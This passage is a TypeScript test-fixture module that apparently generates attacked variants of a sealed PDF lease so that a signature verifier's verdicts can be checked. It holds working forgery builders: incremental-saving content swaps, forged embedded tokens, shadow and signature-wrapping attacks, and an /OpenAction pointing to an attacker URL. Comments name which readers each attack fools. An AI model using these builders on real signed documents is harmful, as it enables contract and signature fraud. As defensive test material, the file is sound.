// Variants of the sealed PAdES for the seal checks: permitted LTV updates, and the attack classes of
// the PDF-signature literature (incremental saving, shadow, signature wrapping, universal signature
// forgery) plus structural faults. Each builder returns the bytes and what a verifier should say.
import { PDFArray, PDFDict, PDFHexString, PDFName, PDFRef, PDFString, type PDFContext, type PDFDocument, type PDFObject } from "pdf-lib";
import { createTimestampToken, sealRevocation } from "./cms.js";
import { concat, latin1Bytes, latin1Text, utf8Bytes } from "./der.js";
import { buildWorkflowEvidence, type WorkflowEvidence } from "./evidence.js";
import { appendIncrementalUpdate, loadForUpdate, serializePdfObject, type UpdateObject } from "./incremental.js";
import { lastStartXref, patchSpan, spanAfterKey } from "./pdf-bytes.js";
import { evidenceAttachments, preparePades, sealPrepared, type PadesLayout, type PreparedPdf } from "./pdf.js";
import type { TestPki } from "./pki.js";
import { pdfDate, TIMELINE } from "./timeline.js";
import { tamperJwtPayload } from "./token.js";

export type Indication = "TOTAL-PASSED" | "TOTAL-FAILED" | "INDETERMINATE";

export interface Expected {
  indication: Indication;
  /** Suggested ETSI EN 319 102-1 sub-indication (null when passed). */
  subIndication: string | null;
  /** The contract check id that should decide. */
  check: string;
  /**
   * The validation time the verdict is for (--at), when it is not now: the Workflow-token JSON carries no proof
   * of existence, so its verdicts are stated at the time its token claims (attack36 J1).
   */
  at?: string;
  /** PDF variants: does `pdfsig` say "Signature is Valid" for signature #1 (it ignores later revisions)? */
  pdfsigValid?: boolean;
  /** Attacks: which mainstream reader shows something other than what was sealed, and what. */
  fooled?: string;
}

export interface PdfVariant {
  name: string;
  description: string;
  bytes: Uint8Array;
  expected: Expected;
}

/** A genuine sealed PAdES with everything needed to derive variants from it. */
export interface SealedBase {
  pki: TestPki;
  evidence: WorkflowEvidence;
  layout: PadesLayout;
  prepared: PreparedPdf;
  sealed: Uint8Array;
}

export async function sealedBase(pki: TestPki, evidence?: WorkflowEvidence, layout: Partial<PadesLayout> = {}): Promise<SealedBase> {
  const e = evidence ?? (await buildWorkflowEvidence({ pki }));
  const full: PadesLayout = { originals: e.originals.map((o) => o.bytes), attachments: evidenceAttachments(e), ...layout };
  const prepared = await preparePades(full);
  return { pki, evidence: e, layout: full, prepared, sealed: sealPrepared(prepared, pki) };
}

const PASSED: Expected = { indication: "TOTAL-PASSED", subIndication: null, check: "seal-modifications", pdfsigValid: true };
const modified = (pdfsigValid = true, fooled?: string): Expected => ({
  indication: "TOTAL-FAILED",
  subIndication: "HASH_FAILURE",
  check: "seal-modifications",
  pdfsigValid,
  ...(fooled ? { fooled } : {}),
});
/** The file is one that readers resolve differently (or rebuild by scanning): refused as unreadable. */
const refused = (fooled: string): Expected => ({
  indication: "TOTAL-FAILED",
  subIndication: "FORMAT_FAILURE",
  check: "seal-signature",
  pdfsigValid: true,
  fooled,
});
/** A later update whose section or trailer sealcheck refuses: the seal judged, the update named by seal-modifications. */
const unreadUpdate = (fooled: string): Expected => ({ ...refused(fooled), check: "seal-modifications" });
const badSeal = (pdfsigValid = false): Expected => ({ indication: "TOTAL-FAILED", subIndication: "FORMAT_FAILURE", check: "seal-signature", pdfsigValid });
const badAttachments: Expected = { indication: "TOTAL-FAILED", subIndication: "FORMAT_FAILURE", check: "attachments", pdfsigValid: true };

// ---- helpers over one loaded revision ---------------------------------------------------------

interface Update {
  doc: PDFDocument;
  ctx: PDFContext;
  objects: UpdateObject[];
  /** Register a new object and queue it for writing. */
  add(obj: Parameters<PDFContext["register"]>[0]): PDFRef;
  /** Queue a changed copy of an existing object under its own number. */
  replace(ref: PDFRef, obj: Parameters<PDFContext["register"]>[0]): void;
}

async function beginUpdate(pdf: Uint8Array): Promise<Update> {
  const doc = await loadForUpdate(pdf);
  const ctx = doc.context;
  const objects: UpdateObject[] = [];
  return {
    doc,
    ctx,
    objects,
    add(obj) {
      const ref = ctx.register(obj);
      objects.push({ num: ref.objectNumber, body: obj });
      return ref;
    },
    replace(ref, obj) {
      objects.push({ num: ref.objectNumber, gen: ref.generationNumber, body: obj });
    },
  };
}

const catalogRef = (u: Update): PDFRef => u.ctx.trailerInfo.Root as PDFRef;
/** Queue the catalog, rewritten with one entry set. */
function setCatalogEntry(u: Update, key: string, value: PDFObject): void {
  const catalog = u.doc.catalog.clone(u.ctx);
  catalog.set(PDFName.of(key), value);
  u.replace(catalogRef(u), catalog);
}
const firstPage = (u: Update): { ref: PDFRef; dict: PDFDict } => {
  const page = u.doc.getPage(0);
  return { ref: page.ref, dict: page.node };
};
const finish = (pdf: Uint8Array, u: Update, xref: "table" | "stream" = "table"): Uint8Array => appendIncrementalUpdate(pdf, { objects: u.objects, xref }).bytes;

/** A content stream drawing lines with a font resource name the page already has. */
function textStream(u: Update, page: PDFDict, lines: string[]): PDFRef {
  const fonts = page.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("Font"), PDFDict);
  const key = fonts.keys()[0]!.asString();
  const ops = lines.map((l, i) => `BT ${key} ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`).join("\n");
  return u.add(u.ctx.flateStream(ops));
}

const FORGED_LINES = [
  "Lejekontrakt",
  "",
  "Udlejer: Sealcheck Test Ejendomme ApS",
  "Lejer: Karen Test Jensen og Lars Test Nielsen",
  "Lejemaal: Testvej 1, 1. th., 8000 Aarhus C",
  "Husleje: 1 kr. pr. maaned",
  "",
  "(Testdokument - ikke gyldigt)",
];

// ---- permitted: LTV --------------------------------------------------------------------------

/** Add a /DSS (certificates, OCSP responses, CRLs as streams) to the catalog. */
export async function addDss(
  pdf: Uint8Array,
  pki: TestPki,
  xref: "table" | "stream" = "table",
  /** More validation data (the TSAs' revocation data, for long-term validation); `sealRevocation: false` leaves out the seal's. */
  extra: { certs?: Uint8Array[]; ocsps?: Uint8Array[]; crls?: Uint8Array[]; sealRevocation?: false } = {},
): Promise<Uint8Array> {
  const u = await beginUpdate(pdf);
  const rev = extra.sealRevocation === false ? { ocsps: [], crls: [] } : sealRevocation(pki);
  const streams = (list: Uint8Array[]): PDFRef[] => list.map((d) => u.add(u.ctx.flateStream(d)));
  const dss = u.add(
    u.ctx.obj({
      Type: "DSS",
      Certs: streams([pki.seal.der, pki.sealRoot.der, pki.tsa.der, pki.tsaRoot.der, ...(extra.certs ?? [])]),
      OCSPs: streams([...rev.ocsps, ...(extra.ocsps ?? [])]),
      CRLs: streams([...rev.crls, ...(extra.crls ?? [])]),
    }),
  );
  setCatalogEntry(u, "DSS", dss);
  return finish(pdf, u, xref);
}

/** Add a document timestamp (ETSI.RFC3161, /Type /DocTimeStamp) in a new invisible field. */
export async function addDocumentTimestamp(
  pdf: Uint8Array,
  pki: TestPki,
  at = new Date("2025-12-09T10:00:00Z"),
  visibleText?: string,
  /** Revocation data in the token's own CMS. */
  revocation?: { crls: Uint8Array[]; ocsps: Uint8Array[] },
  /** The widget's /F and /Rect instead of the defaults (a12 V1: NoView | ToggleNoView on the rent line). */
  widget?: { F: number; Rect: [number, number, number, number] },
): Promise<Uint8Array> {
  const u = await beginUpdate(pdf);
  const sig = u.add(
    u.ctx.obj({
      Type: "DocTimeStamp",
      Filter: "Adobe.PPKLite",
      SubFilter: "ETSI.RFC3161",
      M: PDFString.of(pdfDate(at)),
      ByteRange: [0, 9_999_999_999, 9_999_999_999, 9_999_999_999],
      Contents: PDFHexString.of("0".repeat(16 * 1024)),
    }),
  );
  const prepared = withSignatureField(pdf, u, sig, {
    ...(visibleText ? { F: 4, Rect: [60, 600, 400, 640], AP: { N: overlayAppearance(u, visibleText) } } : {}),
    ...widget,
  });
  return sealPrepared(prepared, pki, {
    cms: (signed) => createTimestampToken({ tsa: pki.tsa, data: signed, genTime: at, serial: 20251209, ...(revocation ? { revocation } : {}) }),
  });
}

/**
 * Adds field Signature2 with signature dictionary `sig` on page 1 (its widget in the page's /Annots, the field
 * in /AcroForm /Fields), writes the update and returns it with the placeholders located for signing.
 */
function withSignatureField(pdf: Uint8Array, u: Update, sig: PDFRef, widgetExtra: Record<string, unknown>): PreparedPdf {
  const page = firstPage(u);
  const widget = u.add(
    u.ctx.obj({
      Type: "Annot",
      Subtype: "Widget",
      FT: "Sig",
      T: PDFString.of("Signature2"),
      V: sig,
      F: 132,
      Rect: [0, 0, 0, 0],
      P: page.ref,
      ...(widgetExtra as Record<string, never>),
    }),
  );
  const pageCopy = page.dict.clone(u.ctx);
  const annots = page.dict.lookup(PDFName.of("Annots"), PDFArray).clone(u.ctx);
  annots.push(widget);
  pageCopy.set(PDFName.of("Annots"), annots);
  u.replace(page.ref, pageCopy);
  const acroRef = u.doc.catalog.get(PDFName.of("AcroForm")) as PDFRef;
  const acro = u.doc.catalog.lookup(PDFName.of("AcroForm"), PDFDict).clone(u.ctx);
  acro.lookup(PDFName.of("Fields"), PDFArray).push(widget);
  u.replace(acroRef, acro);
  const { bytes, offsets } = appendIncrementalUpdate(pdf, { objects: u.objects });
  const sigAt = offsets.get(sig.objectNumber)!;
  return {
    bytes,
    sigObject: sig.objectNumber,
    byteRange: spanAfterKey(bytes, sigAt, "/ByteRange", "[", "]"),
    contents: spanAfterKey(bytes, sigAt, "/Contents", "<", ">"),
  };
}

/** A Form XObject painting a white box with one line of text: what an overlay annotation shows. */
function overlayAppearance(u: Update, line: string): PDFRef {
  const ops = `1 g 0 0 340 40 re f 0 g BT /Helv 14 Tf 6 14 Td (${line}) Tj ET`;
  return u.add(
    u.ctx.flateStream(ops, {
      Type: "XObject",
      Subtype: "Form",
      BBox: [0, 0, 340, 40],
      Resources: { Font: { Helv: { Type: "Font", Subtype: "Type1", BaseFont: "Helvetica" } } },
    }),
  );
}

/** Page 1's first content stream and a forged replacement for it (not yet queued). */
function forgedContent(u: Update): { contentRef: PDFRef; forged: PDFObject } {
  const page = firstPage(u);
  const contentRef = page.dict.lookup(PDFName.of("Contents"), PDFArray).get(0) as PDFRef;
  const forged = u.ctx.lookup(textStream(u, page.dict, FORGED_LINES))!;
  u.objects.pop();
  return { contentRef, forged };
}

/** Raw text of one object as pdf-lib writes it, `N G obj … endobj`. */
const rawObject = (num: number, body: PDFObject): string => `${num} 0 obj\n${latin1Text(serializePdfObject(body))}\nendobj\n`;

// ---- attacks on the object graph and on readers (issue: the PDF layer) ---------------------------

async function graphAndReaderAttacks(
  b: SealedBase,
  pki: TestPki,
  add: (name: string, description: string, bytes: Uint8Array, expected: Expected) => void,
): Promise<void> {
  const s = b.sealed;
  const POPPLER_TEXT = "poppler (pdftotext) and qpdf show the forged page text (rent 1 kr.)";
  {
    // Role by first sight: the page's content stream is also listed as DSS "certificate", then rewritten.
    const u = await beginUpdate(s);
    const { contentRef, forged } = forgedContent(u);
    const dss = u.add(u.ctx.obj({ Type: "DSS", Certs: [contentRef, u.add(u.ctx.flateStream(pki.seal.der))] }));
    setCatalogEntry(u, "DSS", dss);
    u.replace(contentRef, forged);
    add(
      "role-dss-lists-page-content",
      "A later revision adds a /DSS that lists page 1's content stream under /Certs, and rewrites that stream (rent 1 kr.).",
      finish(s, u),
      modified(true, POPPLER_TEXT),
    );
  }
  {
    // A /VRI value that is the token's file specification, whose /EF /UF is then pointed at a forged token.
    const u = await beginUpdate(s);
    const names = u.doc.catalog.lookup(PDFName.of("Names"), PDFDict).lookup(PDFName.of("EmbeddedFiles"), PDFDict).lookup(PDFName.of("Names"), PDFArray);
    const specRef = names.get(1) as PDFRef;
    const forgedJwt = tamperJwtPayload(b.evidence.padesToken.jwt, (pl) => ({ ...pl, workflow_title: "Forged title" }));
    const stream = u.add(u.ctx.flateStream(utf8Bytes(forgedJwt), { Type: "EmbeddedFile", Subtype: "application/octet-stream" }));
    const spec = (u.ctx.lookup(specRef) as PDFDict).clone(u.ctx);
    const ef = spec.lookup(PDFName.of("EF"), PDFDict).clone(u.ctx);
    ef.set(PDFName.of("UF"), stream);
    spec.set(PDFName.of("EF"), ef);
    u.replace(specRef, spec);
    const dss = u.add(u.ctx.obj({ Type: "DSS", VRI: { ABCDEF0123456789ABCDEF0123456789ABCDEF01: specRef } }));
    setCatalogEntry(u, "DSS", dss);
    add(
      "role-vri-is-token-filespec",
      "A later revision's /DSS /VRI names workflow_token.jwt's file specification, whose /EF gains a /UF stream with a forged token.",
      finish(s, u),
      modified(true, "Acrobat and pdf.js extract the /UF stream: a forged Workflow token"),
    );
  }
  {
    // A font re-typed /XRef (so a role-by-type reader would call it bookkeeping) with new /Differences.
    const u = await beginUpdate(s);
    const page = firstPage(u);
    const fonts = page.dict.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("Font"), PDFDict);
    const fontRef = fonts.get(fonts.keys()[0]!) as PDFRef;
    const font = (u.ctx.lookup(fontRef) as PDFDict).clone(u.ctx);
    font.set(PDFName.of("Type"), PDFName.of("XRef"));
    font.set(PDFName.of("Encoding"), u.ctx.obj({ Type: "Encoding", BaseEncoding: "WinAnsiEncoding", Differences: [57, "one"] }));
    u.replace(fontRef, font);
    add(
      "role-font-retyped-xref",
      "A later revision redefines page 1's font as /Type /XRef with an /Encoding /Differences that draws every 9 as 1 (9.500 kr. reads 1.500 kr.).",
      finish(s, u),
      modified(true, "poppler and pdf.js render the digits with the new /Differences"),
    );
  }
  {
    const u = await beginUpdate(s);
    const page = firstPage(u);
    const forgedJwt = tamperJwtPayload(b.evidence.padesToken.jwt, (pl) => ({ ...pl, workflow_title: "Forged title" }));
    const stream = u.add(u.ctx.flateStream(utf8Bytes(forgedJwt), { Type: "EmbeddedFile", Subtype: "application/octet-stream" }));
    const fs = u.add(u.ctx.obj({ Type: "Filespec", F: PDFString.of("workflow_token.jwt"), UF: PDFString.of("workflow_token.jwt"), EF: { F: stream } }));
    const annot = u.add(u.ctx.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [500, 780, 520, 800], FS: fs, F: 4, Name: "Paperclip" }));
    const copy = page.dict.clone(u.ctx);
    const annots = page.dict.lookup(PDFName.of("Annots"), PDFArray).clone(u.ctx);
    annots.push(annot);
    copy.set(PDFName.of("Annots"), annots);
    u.replace(page.ref, copy);
    add(
      "annot-file-attachment-token",
      "A later revision adds a FileAttachment annotation carrying a second, forged workflow_token.jwt.",
      finish(s, u),
      modified(true, "Acrobat, pdf.js and pdfdetach list a second workflow_token.jwt"),
    );
  }
  {
    // A direct /Annots array with a direct annotation whose appearance paints over the rent line.
    const u = await beginUpdate(s);
    const page = firstPage(u);
    const copy = page.dict.clone(u.ctx);
    const annots = page.dict.lookup(PDFName.of("Annots"), PDFArray).clone(u.ctx);
    annots.push(u.ctx.obj({ Type: "Annot", Subtype: "Square", Rect: [60, 620, 400, 660], F: 4, AP: { N: overlayAppearance(u, "Husleje: 1 kr. pr. maaned") } }));
    copy.set(PDFName.of("Annots"), annots);
    u.replace(page.ref, copy);
    add(
      "direct-annotation-overlay",
      "A later revision gives page 1 a direct /Annots array holding a direct Square annotation whose appearance covers the rent line.",
      finish(s, u),
      modified(true, "poppler (pdftoppm) and Acrobat draw the overlay over the rent"),
    );
  }
  {
    const u = await beginUpdate(s);
    setCatalogEntry(u, "AcroForm", u.ctx.obj({}));
    add(
      "direct-acroform-empty",
      "A later revision replaces the catalog's /AcroForm with a direct empty dictionary: the certification has no field any more.",
      finish(s, u),
      modified(true, "pdfsig and Acrobat find no signature field: the seal disappears"),
    );
  }
  {
    const base = await beginUpdate(s);
    const infoText = "/Info << /Title (Forged lease: 1 kr.) /Producer (sealcheck attack) >>";
    const entries = `/Root ${catalogRef(base).toString()} ${infoText}`;
    add(
      "trailer-direct-info",
      "A later revision's trailer has a direct /Info dictionary with another title.",
      appendIncrementalUpdate(s, { objects: [], trailerEntries: entries }).bytes,
      modified(true, "pdfinfo shows the forged title"),
    );
  }
  {
    const u = await beginUpdate(s);
    const catalog = u.doc.catalog.clone(u.ctx);
    catalog.set(PDFName.of("OpenAction"), u.ctx.obj({ S: "URI", URI: PDFString.of("https://attacker.invalid/") }));
    const direct = latin1Text(serializePdfObject(catalog));
    add(
      "trailer-direct-root",
      "A later revision's trailer has a direct /Root: a copy of the catalog with an /OpenAction.",
      appendIncrementalUpdate(s, { objects: [], trailerEntries: `/Root ${direct}` }).bytes,
      modified(true, "readers that accept a direct /Root run the /OpenAction"),
    );
  }
  // Conditions under which readers disagree or rebuild the cross-reference table by scanning.
  {
    const u = await beginUpdate(s);
    const { contentRef, forged } = forgedContent(u);
    u.replace(contentRef, forged);
    add(
      "xref-size-absurd",
      "A later revision replaces page 1's content with /Size 2147483647 in its trailer.",
      appendIncrementalUpdate(s, { objects: u.objects, size: 2147483647 }).bytes,
      unreadUpdate("poppler rebuilds the table by scanning; qpdf warns and grows it"),
    );
  }
  {
    const u = await beginUpdate(s);
    const { contentRef, forged } = forgedContent(u);
    const dss = u.add(u.ctx.obj({ Type: "DSS", Certs: [u.add(u.ctx.flateStream(pki.seal.der))] }));
    setCatalogEntry(u, "DSS", dss);
    // The forged content is written under the content's number and listed with a reserved entry type.
    u.replace(contentRef, forged);
    add(
      "xref-stream-reserved-type",
      "A later xref stream lists page 1's (forged) content object with the reserved entry type 3 beside a /DSS.",
      appendIncrementalUpdate(s, { objects: u.objects, xref: "stream", rowTypes: new Map([[contentRef.objectNumber, 3]]) }).bytes,
      unreadUpdate(`poppler and pdf.js rebuild the table by scanning, where the last '${contentRef.objectNumber} 0 obj' (forged) wins`),
    );
  }
  {
    // A permitted change (a DSS) whose certificate list names an object no section lists; the forged content
    // sits in the update's bytes under the content's number, listed by no entry.
    const u = await beginUpdate(s);
    const { contentRef, forged } = forgedContent(u);
    const dss = u.add(u.ctx.obj({ Type: "DSS", Certs: [PDFRef.of(9999)] }));
    setCatalogEntry(u, "DSS", dss);
    add(
      "xref-dangling-reference",
      "A later revision adds a /DSS whose /Certs names object 9999, which no cross-reference section lists; a forged page content object sits unlisted in the same update.",
      appendIncrementalUpdate(s, { objects: u.objects, unlisted: rawObject(contentRef.objectNumber, forged) }).bytes,
      {
        indication: "TOTAL-FAILED",
        subIndication: "FORMAT_FAILURE",
        check: "seal-modifications",
        pdfsigValid: true,
        fooled:
          "readers disagree on a reference no section lists (qpdf reads null, pdf.js rebuilds the table), and an unlisted forged content object waits in the same update",
      },
    );
  }
  {
    const u = await beginUpdate(s);
    const { contentRef, forged } = forgedContent(u);
    add(
      "xref-hybrid-free-vs-stream",
      "A later hybrid section lists page 1's content as free in its table and, in its /XRefStm, at a forged copy.",
      hybridFreeVersusStream(s, contentRef.objectNumber, forged),
      unreadUpdate("pdf.js keeps the table's free entry (an empty page); poppler and qpdf read the forged content"),
    );
  }
  {
    const u = await beginUpdate(s);
    const { contentRef, forged } = forgedContent(u);
    u.replace(contentRef, forged);
    const bytes = appendIncrementalUpdate(s, { objects: u.objects }).bytes;
    const text = latin1Text(bytes);
    const at = text.lastIndexOf("startxref\n");
    add(
      "xref-comment-after-startxref",
      "A later revision (forged content) writes a comment between its 'startxref' and the offset.",
      latin1Bytes(`${text.slice(0, at)}startxref\n% offset follows\n${text.slice(at + "startxref\n".length)}`),
      unreadUpdate("readers that take the line after 'startxref' as the offset fail and rebuild the table by scanning"),
    );
  }
  {
    const u = await beginUpdate(s);
    const { contentRef, forged } = forgedContent(u);
    add(
      "data-after-eof",
      "Forged objects appended after the last %%EOF, then 2 KiB of padding that pushes 'startxref' out of a reader's tail window.",
      concat(s, latin1Bytes(`${rawObject(contentRef.objectNumber, forged)}${" ".repeat(2048)}\n`)),
      unreadUpdate("qpdf finds no startxref in the file's tail and rebuilds the cross-reference table by scanning"),
    );
  }
  add(
    "ltv-doc-timestamp-visible",
    "A later document timestamp whose widget has a visible appearance over the rent line.",
    await addDocumentTimestamp(await addDss(s, pki), pki, undefined, "Husleje: 1 kr. pr. maaned"),
    modified(true, "poppler and Acrobat draw the timestamp's appearance over the page"),
  );
  {
    // An approval signature after the certification: pdfsig lists it as valid, "total document signed".
    const u = await beginUpdate(s);
    const sig = u.add(
      u.ctx.obj({
        Type: "Sig",
        Filter: "Adobe.PPKLite",
        SubFilter: "ETSI.CAdES.detached",
        M: PDFString.of(pdfDate(TIMELINE.iat)),
        ByteRange: [0, 9_999_999_999, 9_999_999_999, 9_999_999_999],
        Contents: PDFHexString.of("0".repeat(24 * 1024)),
      }),
    );
    const prepared = withSignatureField(s, u, sig, {});
    add(
      "later-approval-signature",
      "After the certification (DocMDP P=1) a second, approval signature by another certificate is added in field Signature2.",
      sealPrepared(prepared, pki, { signer: pki.otherTokenSigner, certificates: [pki.otherTokenSigner], timestamp: false }),
      modified(true, "pdfsig lists Signature2 as valid and 'Total document signed'"),
    );
  }
}

/** A hybrid update: its table lists `num` as free, its /XRefStm lists a forged copy of it in use. */
function hybridFreeVersusStream(pdf: Uint8Array, num: number, forged: PDFObject): Uint8Array {
  const prev = lastStartXref(pdf);
  const prevText = latin1Text(pdf.subarray(prev, Math.min(pdf.length, prev + 100_000)));
  const size = Number(/\/Size\s+(\d+)/.exec(prevText)![1]);
  const root = /\/Root\s*(\d+\s+\d+\s+R)/.exec(prevText)![1];
  let text = latin1Text(pdf);
  if (!text.endsWith("\n")) text += "\n";
  const objAt = text.length;
  text += rawObject(num, forged);
  const stmNum = size;
  const stmAt = text.length;
  const row = (type: number, f2: number, f3: number) =>
    String.fromCharCode(type, (f2 >>> 24) & 255, (f2 >>> 16) & 255, (f2 >>> 8) & 255, f2 & 255, (f3 >>> 8) & 255, f3 & 255);
  const rows = row(1, objAt, 0) + row(1, stmAt, 0);
  text += `${stmNum} 0 obj\n<< /Type /XRef /Size ${size + 1} /W [1 4 2] /Index [${num} 1 ${stmNum} 1] /Length ${rows.length} >>\nstream\n${rows}\nendstream\nendobj\n`;
  const xrefAt = text.length;
  text += `xref\n${num} 1\n0000000000 00001 f \n${stmNum} 1\n${String(stmAt).padStart(10, "0")} 00000 n \n`;
  text += `trailer\n<< /Size ${size + 1} /Root ${root} /Prev ${prev} /XRefStm ${stmAt} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return latin1Bytes(text);
}

// ---- the catalogue of variants ------------------------------------------------------------------

/** Every PDF variant, built from one genuine base (a few seconds). */
export async function buildPdfVariants(pki: TestPki, base?: SealedBase): Promise<PdfVariant[]> {
  const b = base ?? (await sealedBase(pki));
  const out: PdfVariant[] = [];
  const add = (name: string, description: string, bytes: Uint8Array, expected: Expected): void => {
    out.push({ name, description, bytes, expected });
  };
  const s = b.sealed;
  const p = b.prepared;
  const c = p.contents;
  const len = p.bytes.length;

  // Permitted LTV extensions.
  add("ltv-dss", "A later revision only adds a /DSS (certificates, OCSP, CRL) to the catalog (classic xref).", await addDss(s, pki), PASSED);
  add("ltv-dss-xref-stream", "As ltv-dss, the update written with a cross-reference stream.", await addDss(s, pki, "stream"), PASSED);
  add(
    "ltv-dss-doc-timestamp",
    "Revision 2 adds a /DSS, revision 3 a document timestamp (ETSI.RFC3161, /DocTimeStamp) in field Signature2.",
    await addDocumentTimestamp(await addDss(s, pki), pki),
    PASSED,
  );

  // Incremental saving attacks.
  for (const xref of ["table", "stream"] as const) {
    const u = await beginUpdate(s);
    const page = firstPage(u);
    const contentRef = page.dict.lookup(PDFName.of("Contents"), PDFArray).get(0) as PDFRef;
    const forged = u.ctx.lookup(textStream(u, page.dict, FORGED_LINES));
    u.objects.pop(); // redefine the existing content object instead of adding one
    u.replace(contentRef, forged!);
    add(
      `isa-page-content-replaced${xref === "stream" ? "-xref-stream" : ""}`,
      `Page 1's content stream object is redefined in a later revision (rent 9.500 → 1 kr.), ${xref === "stream" ? "xref stream" : "classic xref"}.`,
      finish(s, u, xref),
      modified(true, "poppler (pdftotext) and qpdf show the forged page text (rent 1 kr.)"),
    );
  }
  {
    const u = await beginUpdate(s);
    const names = u.doc.catalog.lookup(PDFName.of("Names"), PDFDict).lookup(PDFName.of("EmbeddedFiles"), PDFDict).lookup(PDFName.of("Names"), PDFArray);
    const specRef = names.get(1) as PDFRef;
    const forgedJwt = tamperJwtPayload(b.evidence.padesToken.jwt, (pl) => ({ ...pl, workflow_title: "Forged title" }));
    const stream = u.add(
      u.ctx.flateStream(utf8Bytes(forgedJwt), {
        Type: "EmbeddedFile",
        Subtype: "application/octet-stream",
        Params: { ModDate: PDFString.of(pdfDate(TIMELINE.iat)), Size: forgedJwt.length },
      }),
    );
    const spec = (u.ctx.lookup(specRef) as PDFDict).clone(u.ctx);
    spec.set(PDFName.of("EF"), u.ctx.obj({ F: stream }));
    u.replace(specRef, spec);
    add(
      "isa-attachment-replaced",
      "A later revision points workflow_token.jwt's file specification at a new stream (a forged token).",
      finish(s, u),
      modified(),
    );
  }
  {
    const u = await beginUpdate(s);
    const treeRef = u.doc.catalog.lookup(PDFName.of("Names"), PDFDict).get(PDFName.of("EmbeddedFiles")) as PDFRef;
    const tree = (u.ctx.lookup(treeRef) as PDFDict).clone(u.ctx);
    const extra = utf8Bytes("This attachment was added after sealing.\n");
    const stream = u.add(u.ctx.flateStream(extra, { Type: "EmbeddedFile", Subtype: "application/octet-stream", Params: { Size: extra.length } }));
    const spec = u.add(
      u.ctx.obj({
        Type: "Filespec",
        F: PDFString.of("workflow_token_v2.txt"),
        UF: PDFString.of("workflow_token_v2.txt"),
        AFRelationship: "Unspecified",
        EF: { F: stream },
      }),
    );
    const arr = tree.lookup(PDFName.of("Names"), PDFArray).clone(u.ctx);
    arr.push(PDFString.of("workflow_token_v2.txt"));
    arr.push(spec);
    tree.set(PDFName.of("Names"), arr);
    u.replace(treeRef, tree);
    add("isa-attachment-added", "A later revision adds a fourth attachment (workflow_token_v2.txt) to the name tree.", finish(s, u), modified());
  }
  {
    const u = await beginUpdate(s);
    const page = firstPage(u);
    const note = u.add(
      u.ctx.obj({
        Type: "Annot",
        Subtype: "FreeText",
        Rect: [300, 600, 560, 640],
        Contents: PDFString.of("Husleje nedsat til 1 kr."),
        DA: PDFString.of("/Helv 12 Tf 0 g"),
        F: 4,
      }),
    );
    const copy = page.dict.clone(u.ctx);
    const annots = page.dict.lookup(PDFName.of("Annots"), PDFArray).clone(u.ctx);
    annots.push(note);
    copy.set(PDFName.of("Annots"), annots);
    u.replace(page.ref, copy);
    add("isa-annotation-added", "A later revision adds a FreeText annotation to page 1.", finish(s, u), modified());
  }
  {
    const u = await beginUpdate(s);
    setCatalogEntry(u, "OpenAction", u.ctx.obj({ S: "URI", URI: PDFString.of("https://attacker.invalid/") }));
    add("isa-catalog-changed", "A later revision adds an /OpenAction to the catalog.", finish(s, u), modified());
  }

  await graphAndReaderAttacks(b, pki, add);

  // Shadow attack: hidden content signed in revision 1, switched in by revision 2.
  {
    const shadowBase = await sealedBase(pki, b.evidence, { contentsSize: b.layout.contentsSize, hiddenContent: FORGED_LINES });
    const u = await beginUpdate(shadowBase.sealed);
    const page = firstPage(u);
    const copy = page.dict.clone(u.ctx);
    copy.set(PDFName.of("Contents"), u.ctx.obj([PDFRef.of(shadowBase.prepared.hiddenObject!)]));
    u.replace(page.ref, copy);
    add(
      "shadow-hide-and-replace",
      "Revision 1 carries a signed but unreferenced content stream (rent 1 kr.); revision 2 only changes page 1's /Contents reference to it.",
      finish(shadowBase.sealed, u),
      modified(true, "every reader shows the hidden content (rent 1 kr.)"),
    );
  }

  // Signature wrapping: ByteRange values that are not "everything but /Contents", signed as declared.
  // pdfsig's verdict on each (observed with poppler 22+): it only checks the digest over the declared ranges.
  const wrap = (name: string, description: string, byteRange: number[], pdfsigValid: boolean): void =>
    add(name, description, sealPrepared(p, pki, { byteRange }), badSeal(pdfsigValid));
  wrap("sw-byterange-overlap", "ByteRange ranges overlap (the first covers /Contents).", [0, c.end, c.start, len - c.start], false);
  wrap("sw-byterange-not-from-zero", "ByteRange starts at offset 1, not 0.", [1, c.start - 1, c.end, len - c.end], true);
  wrap(
    "sw-byterange-three-ranges",
    "ByteRange has three ranges (6 numbers) covering the same bytes.",
    [0, c.start, c.end, 100, c.end + 100, len - c.end - 100],
    true,
  );
  wrap("sw-byterange-gap-not-contents", "The unsigned gap is 20 bytes longer than /Contents.", [0, c.start, c.end + 20, len - c.end - 20], true);
  wrap("sw-byterange-short-of-eof", "The second range stops 100 bytes before the end of the revision.", [0, c.start, c.end, len - c.end - 100], true);
  add(
    "sw-objects-in-contents-gap",
    "Signature wrapping: the CMS is shortened and forged objects are hidden in the unsigned /Contents gap, then referenced by an appended xref section.",
    await objectsInContentsGap(b),
    badSeal(true),
  );

  // Integrity before policy: a SHA-1 seal is judged by its algorithm only once it is intact.
  add("seal-sha1", "The seal's digest is SHA-1 (intact): not accepted by policy.", sealPrepared(p, pki, { digestAlgorithm: "sha1" }), {
    indication: "INDETERMINATE",
    subIndication: "CRYPTO_CONSTRAINTS_FAILURE",
    check: "seal-signature",
    pdfsigValid: true,
  });
  add(
    "seal-sha1-wrong-digest",
    "The seal's digest is SHA-1 and its messageDigest is not the digest of the ranges: a failure, whatever the algorithm.",
    sealPrepared(p, pki, { digestAlgorithm: "sha1", messageDigest: new Uint8Array(20).fill(7) }),
    { indication: "TOTAL-FAILED", subIndication: "HASH_FAILURE", check: "seal-signature", pdfsigValid: false },
  );
  add(
    "seal-hash-mismatch",
    "The seal's SignerInfo names SHA-1 as its digest algorithm but signs its attributes with sha256WithRSAEncryption: pkijs verifies it, OpenSSL and NSS do not.",
    sealPrepared(p, pki, { digestAlgorithm: "sha1", mismatchedSignatureHash: true }),
    {
      indication: "TOTAL-FAILED",
      subIndication: "SIG_CRYPTO_FAILURE",
      check: "seal-signature",
      pdfsigValid: false,
      fooled: "pkijs (and a verifier built on it alone) calls the signature valid; pdfsig and openssl cms do not",
    },
  );

  // Universal signature forgery: /Contents or /ByteRange unusable.
  const usf = (name: string, description: string, o: Parameters<typeof sealPrepared>[2]): void => add(name, description, sealPrepared(p, pki, o), badSeal());
